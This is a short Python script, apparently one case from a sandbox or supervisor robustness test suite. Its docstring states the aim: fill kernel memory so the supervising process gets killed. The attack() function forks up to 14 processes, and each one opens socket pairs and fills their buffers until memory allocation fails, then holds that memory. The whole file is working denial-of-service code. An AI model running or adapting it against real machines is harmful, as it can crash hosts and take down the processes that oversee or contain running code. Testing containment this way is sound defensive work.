"""Goal: fill the memory of the kernel, so that it kills the supervisor for it"""
# held: refused crashed timeout overrun

import os, socket, time

def fill():
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            for end in pair:
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(1 << 17))
                except BlockingIOError:
                    pass
    except OSError:
        return kept

def attack():
    for _ in range(14):
        try:
            if not os.fork():
                kept = fill()
                time.sleep(1000)
        except OSError:
            break
    kept = fill()
    time.sleep(0.3)
    return False
